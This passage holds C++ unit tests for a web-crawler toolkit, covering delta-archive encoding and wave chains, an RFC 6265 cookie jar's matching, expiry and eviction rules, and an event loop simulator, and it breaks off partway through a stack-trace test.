  options.evolution_seed = tail.evolution_seed();
  options.base.corpus_seed = tail.corpus_seed();
  options.base.fault_seed = tail.fault_seed();
  options.base.evolution_seed = tail.evolution_seed();
  options.base.policy = tail.policy();
  options.base.wave = tail.wave();
  options.base.site_count =
      static_cast<std::uint32_t>(tail.total_site_count());
  options.base.footer_crc = tail.footer_crc();
  return options;
}

std::string pack_delta(const Reader& base,
                       const std::vector<instrument::VisitLog>& logs,
                       std::uint32_t wave) {
  std::ostringstream out;
  Writer writer(&out, delta_options_for(base, wave));
  for (const auto& log : logs) {
    Error error;
    auto block = encode_wave_block(base, log, &error);
    EXPECT_TRUE(block.has_value()) << error.to_string();
    if (!block) continue;
    if (block->kind == WaveBlock::Kind::kInherited) {
      writer.add_inherited(log.rank);
    } else {
      writer.append_delta_block(log.rank, std::move(block->block));
    }
  }
  Error error;
  EXPECT_TRUE(writer.finish(&error)) << error.to_string();
  return out.str();
}

TEST(DeltaCodecTest, DiffAppliesBackToTargetAndPinsItsBase) {
  const std::string base = encode_site_payload(wave0_logs()[1]);
  const std::string target = encode_site_payload(wave1_logs()[1]);
  const std::string delta = encode_delta_payload(2, base, target);
  EXPECT_LT(delta.size(), target.size());  // a drifted site compresses
  Error error;
  EXPECT_TRUE(validate_delta_payload(delta, &error)) << error.to_string();
  const auto applied = apply_delta_payload(delta, base, &error);
  ASSERT_TRUE(applied.has_value()) << error.to_string();
  EXPECT_EQ(*applied, target);

  // The recorded CRC pins the exact base bytes the ops were computed
  // against: any other base is a splice, kBaseMismatch.
  std::string other = base;
  other[other.size() / 2] = static_cast<char>(other[other.size() / 2] ^ 0x20);
  EXPECT_FALSE(apply_delta_payload(delta, other, &error).has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kBaseMismatch);
}

TEST(DeltaCodecTest, RawModeIsSelfContained) {
  const std::string target = encode_site_payload(wave1_logs()[2]);
  const std::string raw = encode_raw_delta_payload(3, target);
  Error error;
  // Raw deltas apply against no base at all.
  const auto applied =
      apply_delta_payload(raw, std::string_view{}, &error);
  ASSERT_TRUE(applied.has_value()) << error.to_string();
  EXPECT_EQ(*applied, target);
}

TEST(DeltaCodecTest, MutatedDeltasNeverCrashTheDecoder) {
  const std::string base = encode_site_payload(wave0_logs()[1]);
  const std::string target = encode_site_payload(wave1_logs()[1]);
  const std::string delta = encode_delta_payload(2, base, target);
  script::Rng rng(0xDE17A);
  for (int i = 0; i < 4000; ++i) {
    std::string bad = delta;
    const int edits = 1 + static_cast<int>(rng.below(4));
    for (int e = 0; e < edits; ++e) {
      bad[rng.below(bad.size())] =
          static_cast<char>(rng.below(256));
    }
    Error error;
    const auto applied = apply_delta_payload(bad, base, &error);
    if (bad == delta) {
      EXPECT_TRUE(applied.has_value());
    } else if (!applied.has_value()) {
      EXPECT_NE(error.code, fault::ArchiveFault::kNone);
    }
    validate_delta_payload(bad);  // must not crash either
  }
}

TEST(WaveChainTest, ChainMaterializesEveryWaveExactly) {
  WriterOptions w0_options;
  w0_options.corpus_seed = 7;
  const std::string w0 = pack_full(wave0_logs(), w0_options);
  Error error;
  const auto base = Reader::from_buffer(w0, &error);
  ASSERT_TRUE(base.has_value()) << error.to_string();
  const std::string w1 = pack_delta(*base, wave1_logs(), 1);
  const auto delta = Reader::from_buffer(w1, &error);
  ASSERT_TRUE(delta.has_value()) << error.to_string();
  EXPECT_EQ(delta->kind(), ArchiveKind::kDelta);
  EXPECT_EQ(delta->wave(), 1u);
  EXPECT_EQ(delta->inherited_ranks(), (std::vector<int>{1}));
  EXPECT_EQ(delta->site_count(), 2);        // physical blocks
  EXPECT_EQ(delta->total_site_count(), 3);  // + inherited
  EXPECT_LT(w1.size(), w0.size());

  const auto chain = WaveChain::link({&*base, &*delta}, &error);
  ASSERT_TRUE(chain.has_value()) << error.to_string();
  ASSERT_EQ(chain->waves(), 2);
  const auto expect_wave =
      [&](int wave, const std::vector<instrument::VisitLog>& logs) {
        for (const auto& log : logs) {
          Error wave_error;
          const auto payload =
              chain->payload_at(log.rank, wave, &wave_error);
          ASSERT_TRUE(payload.has_value()) << wave_error.to_string();
          EXPECT_EQ(*payload, encode_site_payload(log))
              << "wave " << wave << " rank " << log.rank;
        }
      };
  expect_wave(0, wave0_logs());
  expect_wave(1, wave1_logs());

  // Streaming a wave visits every logical rank in order — blocks and
  // inherited alike.
  std::vector<int> ranks;
  EXPECT_TRUE(chain->for_each(
      1, [&](instrument::VisitLog&& log) { ranks.push_back(log.rank); },
      &error))
      << error.to_string();
  EXPECT_EQ(ranks, (std::vector<int>{1, 2, 3}));
}

TEST(WaveChainTest, DeltaVisitsRequireTheChain) {
  const std::string w0 = pack_full(wave0_logs());
  Error error;
  const auto base = Reader::from_buffer(w0, &error);
  ASSERT_TRUE(base.has_value());
  const std::string w1 = pack_delta(*base, wave1_logs(), 1);
  const auto delta = Reader::from_buffer(w1, &error);
  ASSERT_TRUE(delta.has_value());

  // Direct visits on a delta archive cannot materialize records.
  EXPECT_FALSE(delta->visit(2, &error).has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kDeltaUnresolved);
  EXPECT_FALSE(delta->for_each([](instrument::VisitLog&&) {}, &error));
  EXPECT_EQ(error.code, fault::ArchiveFault::kDeltaUnresolved);

  // A chain that does not start with a full archive is unresolvable.
  EXPECT_FALSE(WaveChain::link({&*delta}, &error).has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kDeltaUnresolved);

  // verify() still CRC-walks the delta structurally.
  const auto stats = delta->verify(&error);
  ASSERT_TRUE(stats.has_value()) << error.to_string();
  EXPECT_EQ(stats->sites, 3);  // blocks + inherited
}

TEST(WaveChainTest, SplicedAndRepackedBasesAreRejected) {
  WriterOptions w0_options;
  w0_options.corpus_seed = 7;
  const std::string w0 = pack_full(wave0_logs(), w0_options);
  Error error;
  const auto base = Reader::from_buffer(w0, &error);
  ASSERT_TRUE(base.has_value());
  const std::string w1 = pack_delta(*base, wave1_logs(), 1);
  const auto delta = Reader::from_buffer(w1, &error);
  ASSERT_TRUE(delta.has_value());

  // Same logs, different corpus seed: provenance disagrees.
  WriterOptions other_options;
  other_options.corpus_seed = 8;
  const std::string other = pack_full(wave0_logs(), other_options);
  const auto other_base = Reader::from_buffer(other, &error);
  ASSERT_TRUE(other_base.has_value());
  EXPECT_FALSE(WaveChain::link({&*other_base, &*delta}, &error).has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kBaseMismatch);

  // Same provenance fields but re-packed content: the base footer CRC
  // disagrees, so the splice is caught before any record decodes.
  const std::string repacked = pack_full(wave1_logs(), w0_options);
  const auto repacked_base = Reader::from_buffer(repacked, &error);
  ASSERT_TRUE(repacked_base.has_value());
  EXPECT_FALSE(
      WaveChain::link({&*repacked_base, &*delta}, &error).has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kBaseMismatch);
}

TEST(StoreRejectionTest, LegacyFooterWithoutExtensionDecodesAsDefaults) {
  const std::string archive = pack_full(wave0_logs());
  Error error;
  const auto reader = Reader::from_buffer(archive, &error);
  ASSERT_TRUE(reader.has_value());
  const std::uint64_t footer_offset = [&] {
    ByteReader trailer(std::string_view(archive).substr(
        archive.size() - kTrailerSize, 8));
    return trailer.u64le();
  }();

  // Re-encode the footer the way a pre-extension writer did: version,
  // schema, seeds, index — and nothing after the index.
  std::string legacy;
  legacy.push_back(static_cast<char>(kFormatVersion));
  put_varint(legacy, reader->schema_version());
  put_varint(legacy, reader->corpus_seed());
  put_varint(legacy, reader->fault_seed());
  put_varint(legacy, reader->index().size());
  std::uint64_t prev_rank = 0;
  std::uint64_t prev_offset = 0;
  bool first = true;
  for (const IndexEntry& entry : reader->index()) {
    const auto rank = static_cast<std::uint64_t>(entry.rank);
    put_varint(legacy, first ? rank : rank - prev_rank);
    put_varint(legacy, first ? entry.offset : entry.offset - prev_offset);
    put_varint(legacy, entry.length);
    prev_rank = rank;
    prev_offset = entry.offset;
    first = false;
  }
  std::string spliced = archive.substr(0, footer_offset);
  spliced += encode_block(BlockType::kFooter, legacy);
  spliced += encode_trailer(footer_offset);

  const auto legacy_reader = Reader::from_buffer(spliced, &error);
  ASSERT_TRUE(legacy_reader.has_value()) << error.to_string();
  EXPECT_EQ(legacy_reader->policy(), ArchivePolicy::kNone);
  EXPECT_EQ(legacy_reader->kind(), ArchiveKind::kFull);
  EXPECT_EQ(legacy_reader->wave(), 0u);
  EXPECT_EQ(legacy_reader->evolution_seed(), 0u);
  EXPECT_TRUE(legacy_reader->visit(2, &error).has_value())
      << error.to_string();

  // An unknown extension version, by contrast, is a hard version error.
  std::string future = legacy;
  put_varint(future, kFooterExtensionVersion + 1);
  std::string future_spliced = archive.substr(0, footer_offset);
  future_spliced += encode_block(BlockType::kFooter, future);
  future_spliced += encode_trailer(footer_offset);
  EXPECT_FALSE(Reader::from_buffer(future_spliced, &error).has_value());
  EXPECT_EQ(error.code, fault::ArchiveFault::kVersionMismatch);
}

TEST(StoreRejectionTest, WriterRefusesOutOfOrderRanks) {
  std::ostringstream out;
  Writer writer(&out, {});
  instrument::VisitLog log = dense_log();
  log.rank = 5;
  writer.add(log);
  log.rank = 3;  // violates strictly-increasing rank order
  writer.add(log);
  Error error;
  EXPECT_FALSE(writer.finish(&error));
  EXPECT_EQ(error.code, fault::ArchiveFault::kDuplicateSite);
}

// ---- checkpoint resume ---------------------------------------------------

TEST(StoreResumeTest, ResumedArchiveIsByteIdenticalToUninterruptedRun) {
  corpus::Corpus corpus(small_params(60));
  crawler::Crawler crawler(corpus);
  WriterOptions writer_options;
  writer_options.corpus_seed = corpus.params().seed;
  {
    crawler::CrawlOptions probe;
    const fault::FaultPlan plan = crawler.plan_for(probe);
    writer_options.fault_seed = plan.enabled() ? plan.params().seed : 0;
  }

  // Uninterrupted reference run, checkpointing along the way.
  const auto full_path = temp_path("cgar_full.cgar");
  std::vector<std::string> checkpoints;
  {
    Error error;
    auto writer = Writer::create(full_path.string(), writer_options, &error);
    ASSERT_NE(writer, nullptr) << error.to_string();
    crawler::CrawlOptions options;
    options.archive = writer.get();
    options.checkpoint_interval = 20;
    options.on_checkpoint = [&](const crawler::CrawlCheckpoint& checkpoint) {
      checkpoints.push_back(checkpoint.to_json_string());
    };
    crawler.crawl(corpus.size(), options, [](instrument::VisitLog&&) {});
    ASSERT_TRUE(writer->finish(&error)) << error.to_string();
  }
  std::ifstream full_in(full_path, std::ios::binary);
  const std::string full_bytes((std::istreambuf_iterator<char>(full_in)),
                               std::istreambuf_iterator<char>());
  ASSERT_GE(checkpoints.size(), 2u);

  // "Crash" after the first checkpoint: reconstruct the partial file as the
  // checkpointed prefix plus a torn half-written block, then resume.
  const auto checkpoint =
      crawler::CrawlCheckpoint::from_json_string(checkpoints[0]);
  ASSERT_TRUE(checkpoint.has_value());
  ASSERT_EQ(checkpoint->next_index, 20);
  ASSERT_EQ(checkpoint->archive_sites, 20);
  ASSERT_GT(checkpoint->archive_bytes, 0);

  const auto partial_path = temp_path("cgar_partial.cgar");
  {
    std::ofstream partial(partial_path, std::ios::binary | std::ios::trunc);
    partial.write(full_bytes.data(), checkpoint->archive_bytes);
    const char torn[] = "\x01\x40half-a-block";  // cut off mid-payload
    partial.write(torn, sizeof(torn) - 1);
  }

  {
    Error error;
    auto writer = Writer::resume(partial_path.string(), writer_options,
                                 checkpoint->archive_sites, &error);
    ASSERT_NE(writer, nullptr) << error.to_string();
    EXPECT_EQ(writer->sites_written(), 20);
    EXPECT_EQ(writer->bytes_written(),
              static_cast<std::uint64_t>(checkpoint->archive_bytes));
    crawler::CrawlOptions options;
    options.archive = writer.get();
    crawler.resume(*checkpoint, options, [](instrument::VisitLog&&) {});
    ASSERT_TRUE(writer->finish(&error)) << error.to_string();
  }
  std::ifstream partial_in(partial_path, std::ios::binary);
  const std::string resumed_bytes(
      (std::istreambuf_iterator<char>(partial_in)),
      std::istreambuf_iterator<char>());
  EXPECT_EQ(resumed_bytes, full_bytes);

  // Resume beyond what survived on disk must fail as truncation.
  {
    std::ofstream partial(partial_path, std::ios::binary | std::ios::trunc);
    partial.write(full_bytes.data(), checkpoint->archive_bytes / 2);
  }
  Error error;
  EXPECT_EQ(Writer::resume(partial_path.string(), writer_options,
                           checkpoint->archive_sites, &error),
            nullptr);
  EXPECT_EQ(error.code, fault::ArchiveFault::kTruncated);

  std::filesystem::remove(full_path);
  std::filesystem::remove(partial_path);
}

}  // namespace
}  // namespace cg::store
