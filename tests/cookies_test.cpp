// Unit tests for the RFC 6265 cookie jar: storage model, matching rules,
// overwrite/delete semantics, document.cookie serialisation.
#include <gtest/gtest.h>

#include "cookies/cookie_jar.h"
#include "net/http_date.h"
#include "net/url.h"

namespace cg::cookies {
namespace {

using cg::net::Url;

constexpr TimeMillis kNow = 1746748800000;  // 2025-05-09

class CookieJarTest : public ::testing::Test {
 protected:
  CookieJar jar_;
  const Url site_ = Url::must_parse("https://www.example.com/shop/cart");
  const Url insecure_ = Url::must_parse("http://www.example.com/");
};

TEST_F(CookieJarTest, ScriptSetAndGetRoundTrip) {
  const auto change = jar_.set_from_string(site_, "_ga=GA1.1.42.1746", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kCreated);
  EXPECT_EQ(jar_.document_cookie_string(site_, kNow), "_ga=GA1.1.42.1746");
}

TEST_F(CookieJarTest, DefaultPathFromRequestUrl) {
  jar_.set_from_string(site_, "k=v", kNow);
  const auto c = jar_.all().at(0);
  EXPECT_EQ(c.path, "/shop");
  // Visible on a sibling under /shop but not at the root.
  EXPECT_EQ(jar_.document_cookie_string(
                Url::must_parse("https://www.example.com/shop/checkout"),
                kNow),
            "k=v");
  EXPECT_EQ(jar_.document_cookie_string(
                Url::must_parse("https://www.example.com/other"), kNow),
            "");
}

TEST_F(CookieJarTest, HostOnlyCookieDoesNotMatchSubdomains) {
  jar_.set_from_string(site_, "k=v; Path=/", kNow);
  EXPECT_EQ(jar_.document_cookie_string(
                Url::must_parse("https://sub.www.example.com/"), kNow),
            "");
}

TEST_F(CookieJarTest, DomainCookieMatchesSubdomains) {
  jar_.set_from_string(site_, "k=v; Domain=example.com; Path=/", kNow);
  EXPECT_EQ(jar_.document_cookie_string(
                Url::must_parse("https://shop.example.com/"), kNow),
            "k=v");
  EXPECT_EQ(jar_.document_cookie_string(
                Url::must_parse("https://example.com/"), kNow),
            "k=v");
}

TEST_F(CookieJarTest, RejectsDomainNotMatchingHost) {
  const auto change =
      jar_.set_from_string(site_, "k=v; Domain=other.com", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kRejected);
  EXPECT_EQ(jar_.size(), 0u);
}

TEST_F(CookieJarTest, RejectsPublicSuffixDomain) {
  const auto change = jar_.set_from_string(site_, "k=v; Domain=com", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kRejected);
}

TEST_F(CookieJarTest, SecureCookieRequiresSecureSetAndGet) {
  const auto rejected =
      jar_.set_from_string(insecure_, "k=v; Secure; Path=/", kNow);
  EXPECT_EQ(rejected.type, CookieChange::Type::kRejected);

  jar_.set_from_string(site_, "k=v; Secure; Path=/", kNow);
  EXPECT_EQ(jar_.document_cookie_string(site_, kNow), "k=v");
  EXPECT_EQ(jar_.document_cookie_string(insecure_, kNow), "");
}

TEST_F(CookieJarTest, ScriptCannotSetHttpOnly) {
  const auto change =
      jar_.set_from_string(site_, "sid=abc; HttpOnly", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kRejected);
}

TEST_F(CookieJarTest, HttpOnlyInvisibleToScriptsButStored) {
  const auto parsed = net::parse_set_cookie("sid=abc; HttpOnly; Path=/");
  ASSERT_TRUE(parsed.has_value());
  jar_.set(site_, *parsed, kNow, JarApi::kHttp);
  EXPECT_EQ(jar_.document_cookie_string(site_, kNow), "");
  EXPECT_EQ(jar_.cookies_for_url(site_, kNow, JarApi::kHttp).size(), 1u);
}

TEST_F(CookieJarTest, ScriptCannotOverwriteHttpOnly) {
  const auto parsed = net::parse_set_cookie("sid=abc; HttpOnly; Path=/");
  jar_.set(site_, *parsed, kNow, JarApi::kHttp);
  const auto change = jar_.set_from_string(site_, "sid=evil; Path=/", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kRejected);
  EXPECT_EQ(jar_.find("sid", "www.example.com", "/")->value, "abc");
}

TEST_F(CookieJarTest, OverwritePreservesCreationTime) {
  jar_.set_from_string(site_, "k=v1; Path=/", kNow);
  const auto change =
      jar_.set_from_string(site_, "k=v2; Path=/", kNow + 5000);
  EXPECT_EQ(change.type, CookieChange::Type::kOverwritten);
  ASSERT_TRUE(change.previous.has_value());
  EXPECT_EQ(change.previous->value, "v1");
  const auto c = jar_.find("k", "www.example.com", "/");
  ASSERT_TRUE(c.has_value());
  EXPECT_EQ(c->value, "v2");
  EXPECT_EQ(c->creation_time, kNow);
}

TEST_F(CookieJarTest, SamePathDifferentIdentityCoexist) {
  jar_.set_from_string(site_, "k=root; Path=/", kNow);
  jar_.set_from_string(site_, "k=shop; Path=/shop", kNow + 1);
  EXPECT_EQ(jar_.size(), 2u);
  // Longer path sorts first in document.cookie (RFC 6265 §5.4).
  EXPECT_EQ(jar_.document_cookie_string(site_, kNow + 2),
            "k=shop; k=root");
}

TEST_F(CookieJarTest, PastExpiryDeletesExistingCookie) {
  jar_.set_from_string(site_, "_fbp=fb.1.1.8683; Path=/", kNow);
  const auto change = jar_.set_from_string(
      site_, "_fbp=x; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kDeleted);
  ASSERT_TRUE(change.previous.has_value());
  EXPECT_EQ(change.previous->value, "fb.1.1.8683");
  EXPECT_EQ(jar_.size(), 0u);
}

TEST_F(CookieJarTest, NegativeMaxAgeDeletes) {
  jar_.set_from_string(site_, "_uetvid=123; Path=/", kNow);
  const auto change =
      jar_.set_from_string(site_, "_uetvid=; Path=/; Max-Age=-1", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kDeleted);
}

TEST_F(CookieJarTest, ExpiredSetWithNoExistingCookieIsNoop) {
  const auto change = jar_.set_from_string(
      site_, "ghost=1; Path=/; Max-Age=0", kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kExpiredNoop);
  EXPECT_EQ(jar_.size(), 0u);
}

TEST_F(CookieJarTest, MaxAgeWinsOverExpires) {
  jar_.set_from_string(
      site_,
      "k=v; Path=/; Max-Age=60; Expires=Thu, 01 Jan 1970 00:00:00 GMT",
      kNow);
  const auto c = jar_.find("k", "www.example.com", "/");
  ASSERT_TRUE(c.has_value());
  EXPECT_EQ(*c->expires, kNow + 60'000);
}

TEST_F(CookieJarTest, ExpiredCookiesNotReturnedAndPurgeable) {
  jar_.set_from_string(site_, "k=v; Path=/; Max-Age=10", kNow);
  EXPECT_EQ(jar_.document_cookie_string(site_, kNow + 5'000), "k=v");
  EXPECT_EQ(jar_.document_cookie_string(site_, kNow + 11'000), "");
  EXPECT_EQ(jar_.purge_expired(kNow + 11'000), 1u);
  EXPECT_EQ(jar_.size(), 0u);
}

TEST_F(CookieJarTest, SessionCookieHasNoExpiry) {
  jar_.set_from_string(site_, "s=1; Path=/", kNow);
  EXPECT_FALSE(jar_.all().at(0).persistent());
}

TEST_F(CookieJarTest, DocumentCookieOrderIsCreationOrderWithinSamePathLen) {
  jar_.set_from_string(site_, "a=1; Path=/", kNow);
  jar_.set_from_string(site_, "b=2; Path=/", kNow + 1);
  jar_.set_from_string(site_, "c=3; Path=/", kNow + 2);
  EXPECT_EQ(jar_.document_cookie_string(site_, kNow + 3), "a=1; b=2; c=3");
}

TEST_F(CookieJarTest, RemoveByIdentity) {
  jar_.set_from_string(site_, "k=v; Path=/", kNow);
  EXPECT_TRUE(jar_.remove("k", "www.example.com", "/"));
  EXPECT_FALSE(jar_.remove("k", "www.example.com", "/"));
  EXPECT_EQ(jar_.size(), 0u);
}

TEST_F(CookieJarTest, GhostWrittenCookieIndistinguishableDomain) {
  // A third-party script running in the main frame sets a cookie: the jar
  // records the *site's* host, not the script's — exactly the ambiguity the
  // paper exploits (ghost-written cookies, §2.3).
  jar_.set_from_string(site_, "_fbp=fb.1.1746.8683; Path=/", kNow);
  const auto c = jar_.all().at(0);
  EXPECT_EQ(c.domain, "www.example.com");
  EXPECT_EQ(c.source, CookieSource::kDocumentCookie);
}

TEST_F(CookieJarTest, UpdatesLastAccessOnRead) {
  jar_.set_from_string(site_, "k=v; Path=/", kNow);
  jar_.cookies_for_url(site_, kNow + 1000, JarApi::kScript);
  EXPECT_EQ(jar_.all().at(0).last_access, kNow + 1000);
}

TEST_F(CookieJarTest, PeekDoesNotUpdateLastAccess) {
  // Measurement code observes the jar through peek_for_url; a read that
  // refreshed last_access would perturb the LRU eviction order it is
  // trying to observe.
  jar_.set_from_string(site_, "a=1; Path=/", kNow);
  jar_.set_from_string(site_, "b=2; Path=/shop", kNow + 1);

  const auto peeked = jar_.peek_for_url(site_, kNow + 1000, JarApi::kScript);
  for (const auto& c : jar_.all()) {
    EXPECT_LT(c.last_access, kNow + 1000);  // untouched
  }
  // Same matching and §5.4 sort as the mutating read.
  const auto read = jar_.cookies_for_url(site_, kNow + 1000, JarApi::kScript);
  ASSERT_EQ(peeked.size(), read.size());
  for (std::size_t i = 0; i < read.size(); ++i) {
    EXPECT_EQ(peeked[i].pair(), read[i].pair());
  }
  EXPECT_EQ(jar_.all().at(0).last_access, kNow + 1000);  // read did touch
}

TEST_F(CookieJarTest, PeekFiltersHttpOnlyForScripts) {
  net::ParsedSetCookie parsed;
  parsed.name = "sid";
  parsed.value = "abc";
  parsed.path = "/";
  parsed.http_only = true;
  jar_.set(site_, parsed, kNow, JarApi::kHttp);
  EXPECT_TRUE(jar_.peek_for_url(site_, kNow, JarApi::kScript).empty());
  EXPECT_EQ(jar_.peek_for_url(site_, kNow, JarApi::kHttp).size(), 1u);
}

TEST_F(CookieJarTest, PartitionedRequiresSecure) {
  // CHIPS: `Partitioned` without `Secure` is rejected at storage time.
  const auto rejected =
      jar_.set_from_string(site_, "pid=x1; Path=/; Partitioned", kNow);
  EXPECT_EQ(rejected.type, CookieChange::Type::kRejected);
  EXPECT_EQ(rejected.reject_reason, "Partitioned cookie without Secure");
  EXPECT_EQ(jar_.size(), 0u);

  const auto stored = jar_.set_from_string(
      site_, "pid=x1; Path=/; Secure; Partitioned", kNow);
  EXPECT_EQ(stored.type, CookieChange::Type::kCreated);
  EXPECT_TRUE(jar_.all().at(0).partitioned);
}

// Parameterized sweep: path-matching truth table (RFC 6265 §5.1.4).
struct PathCase {
  const char* request_path;
  const char* cookie_path;
  bool match;
};

class PathMatchTest : public ::testing::TestWithParam<PathCase> {};

TEST_P(PathMatchTest, Matches) {
  const auto& p = GetParam();
  CookieJar jar;
  const auto set_url = Url::must_parse(
      std::string("https://example.com") + p.cookie_path);
  jar.set_from_string(set_url,
                      std::string("k=v; Path=") + p.cookie_path, kNow);
  const auto got = jar.document_cookie_string(
      Url::must_parse(std::string("https://example.com") + p.request_path),
      kNow);
  EXPECT_EQ(!got.empty(), p.match)
      << "request=" << p.request_path << " cookie=" << p.cookie_path;
}

INSTANTIATE_TEST_SUITE_P(
    Rfc6265PathMatching, PathMatchTest,
    ::testing::Values(PathCase{"/", "/", true},
                      PathCase{"/a", "/", true},
                      PathCase{"/a/b", "/a", true},
                      PathCase{"/a/b", "/a/", true},
                      PathCase{"/ab", "/a", false},
                      PathCase{"/a", "/a/b", false},
                      PathCase{"/a/b/c", "/a/b", true},
                      PathCase{"/x", "/a", false}));

}  // namespace
}  // namespace cg::cookies

// Appended: RFC 6265 §6.1 limits (size cap, LRU eviction).
namespace cg::cookies {
namespace {

// Built by append: chained operator+ over to_string trips the GCC 12
// -Wrestrict false positive (PR 105329) under warnings-as-errors.
std::string numbered_cookie(std::size_t i) {
  std::string s = "c";
  s += std::to_string(i);
  s += "=v; Path=/";
  return s;
}

TEST(CookieJarLimitsTest, OversizedPairRejected) {
  CookieJar jar;
  const auto url = net::Url::must_parse("https://www.example.com/");
  const std::string big(CookieJar::kMaxPairBytes + 1, 'x');
  const auto change = jar.set_from_string(url, "big=" + big, kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kRejected);
  EXPECT_EQ(jar.size(), 0u);
}

TEST(CookieJarLimitsTest, ExactLimitAccepted) {
  CookieJar jar;
  const auto url = net::Url::must_parse("https://www.example.com/");
  const std::string value(CookieJar::kMaxPairBytes - 3, 'x');  // name "big"
  const auto change = jar.set_from_string(url, "big=" + value, kNow);
  EXPECT_EQ(change.type, CookieChange::Type::kCreated);
}

TEST(CookieJarLimitsTest, EvictsLeastRecentlyAccessedBeyondCap) {
  CookieJar jar;
  const auto url = net::Url::must_parse("https://www.example.com/");
  for (std::size_t i = 0; i <= CookieJar::kMaxCookies; ++i) {
    jar.set_from_string(url, numbered_cookie(i),
                        kNow + static_cast<TimeMillis>(i));
  }
  EXPECT_EQ(jar.size(), CookieJar::kMaxCookies);
  // c0 was the least recently accessed: evicted.
  EXPECT_FALSE(jar.find("c0", "www.example.com", "/").has_value());
  EXPECT_TRUE(jar.find("c1", "www.example.com", "/").has_value());
}

TEST(CookieJarLimitsTest, RecentlyReadCookieSurvivesEviction) {
  CookieJar jar;
  const auto url = net::Url::must_parse("https://www.example.com/");
  for (std::size_t i = 0; i < CookieJar::kMaxCookies; ++i) {
    jar.set_from_string(url, numbered_cookie(i),
                        kNow + static_cast<TimeMillis>(i));
  }
  // Touch c0 (read refreshes last_access), then overflow the jar.
  jar.cookies_for_url(url, kNow + 10'000, JarApi::kScript);
  // All were touched by the bulk read; age c1 by re-setting everything
  // except it... simpler: set one more cookie much later. The eviction
  // victim must NOT be the freshly read c0 cohort's newest member.
  jar.set_from_string(url, "overflow=v; Path=/", kNow + 20'000);
  EXPECT_EQ(jar.size(), CookieJar::kMaxCookies);
  EXPECT_TRUE(jar.find("overflow", "www.example.com", "/").has_value());
}

TEST(CookieJarLimitsTest, ExpiredEvictedBeforeLiveOnes) {
  CookieJar jar;
  const auto url = net::Url::must_parse("https://www.example.com/");
  jar.set_from_string(url, "dying=v; Path=/; Max-Age=1", kNow);
  for (std::size_t i = 1; i <= CookieJar::kMaxCookies; ++i) {
    jar.set_from_string(url, numbered_cookie(i),
                        kNow + 5'000 + static_cast<TimeMillis>(i));
  }
  EXPECT_EQ(jar.size(), CookieJar::kMaxCookies);
  EXPECT_FALSE(jar.find("dying", "www.example.com", "/").has_value());
  EXPECT_TRUE(jar.find("c1", "www.example.com", "/").has_value());
}

}  // namespace
}  // namespace cg::cookies
