// Unit tests for the web-platform substrate: event loop, stack traces, DOM,
// frames.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "webplat/dom.h"
#include "webplat/event_loop.h"
#include "webplat/frame.h"
#include "webplat/stack_trace.h"

namespace cg::webplat {
namespace {

// ----------------------------------------------------------- EventLoop ----

class EventLoopTest : public ::testing::Test {
 protected:
  SimClock clock_;
  EventLoop loop_{&clock_};
};

TEST_F(EventLoopTest, RunsTasksInDueTimeOrder) {
  std::vector<int> order;
  loop_.post_task([&] { order.push_back(2); }, 200);
  loop_.post_task([&] { order.push_back(1); }, 100);
  loop_.post_task([&] { order.push_back(3); }, 300);
  EXPECT_EQ(loop_.run_until_idle(), 3u);
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
}

TEST_F(EventLoopTest, AdvancesClockToTaskDueTime) {
  const TimeMillis start = clock_.now();
  loop_.post_task([] {}, 500);
  loop_.run_until_idle();
  EXPECT_EQ(clock_.now(), start + 500);
}

TEST_F(EventLoopTest, FifoForSameDueTime) {
  std::vector<int> order;
  loop_.post_task([&] { order.push_back(1); }, 50);
  loop_.post_task([&] { order.push_back(2); }, 50);
  loop_.run_until_idle();
  EXPECT_EQ(order, (std::vector<int>{1, 2}));
}

TEST_F(EventLoopTest, MicrotasksRunBeforeNextMacrotask) {
  std::vector<std::string> order;
  loop_.post_task([&] {
    order.push_back("macro1");
    loop_.post_microtask([&] { order.push_back("micro"); });
  });
  loop_.post_task([&] { order.push_back("macro2"); }, 10);
  loop_.run_until_idle();
  EXPECT_EQ(order,
            (std::vector<std::string>{"macro1", "micro", "macro2"}));
}

TEST_F(EventLoopTest, TasksCanScheduleMoreTasks) {
  int runs = 0;
  loop_.post_task([&] {
    ++runs;
    loop_.post_task([&] { ++runs; }, 10);
  });
  EXPECT_EQ(loop_.run_until_idle(), 2u);
  EXPECT_EQ(runs, 2);
}

TEST_F(EventLoopTest, SchedulingStackAvailableDuringTask) {
  StackTrace scheduling;
  scheduling.push({"https://tracker.com/t.js", "fire", false});
  bool checked = false;
  loop_.post_task(
      [&] {
        const auto& stack = loop_.current_task_scheduling_stack();
        ASSERT_EQ(stack.depth(), 1u);
        EXPECT_EQ(stack.frames()[0].script_url, "https://tracker.com/t.js");
        checked = true;
      },
      0, scheduling);
  loop_.run_until_idle();
  EXPECT_TRUE(checked);
}

TEST_F(EventLoopTest, RunOneReturnsFalseWhenIdle) {
  EXPECT_FALSE(loop_.run_one());
  EXPECT_TRUE(loop_.idle());
}

TEST_F(EventLoopTest, NegativeDelayTreatedAsImmediate) {
  const TimeMillis start = clock_.now();
  loop_.post_task([] {}, -100);
  loop_.run_until_idle();
  EXPECT_EQ(clock_.now(), start);
}

// ---------------------------------------------------------- StackTrace ----

TEST(StackTraceTest, LastExternalSkipsInlineFrames) {
  StackTrace stack;
  stack.push({"https://a.com/a.js", "outer", false});
  stack.push({"", "inlineHandler", false});
  EXPECT_EQ(stack.last_external_script_url(), "https://a.com/a.js");
}

TEST(StackTraceTest, LastExternalPrefersMostRecent) {
  StackTrace stack;
  stack.push({"https://a.com/a.js", "outer", false});
  stack.push({"https://b.com/b.js", "inner", false});
